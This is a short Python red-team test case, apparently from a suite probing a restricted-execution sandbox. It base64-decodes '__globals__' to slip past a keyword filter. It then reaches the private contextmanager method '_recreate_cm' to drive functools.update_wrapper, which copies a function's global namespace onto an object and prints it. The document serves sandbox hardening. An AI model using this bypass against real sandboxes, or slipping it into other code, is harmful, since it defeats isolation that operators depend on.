# family: red team, round 59b (update_wrapper as cm.func with a decoded assigned name, run through _recreate_cm; namespace repr shows __globals__)
import base64
import functools
import types
from contextlib import contextmanager


class Mine:
    def _recreate_cm(self):
        return self


@contextmanager
def gen():
    yield 1


def victim():
    return 1


target = types.SimpleNamespace()
cm = gen()
cm.func = functools.update_wrapper
cm.args = (target, victim, (base64.b64decode("X19nbG9iYWxzX18=").decode(),), ())
cm._recreate_cm()
print(target)
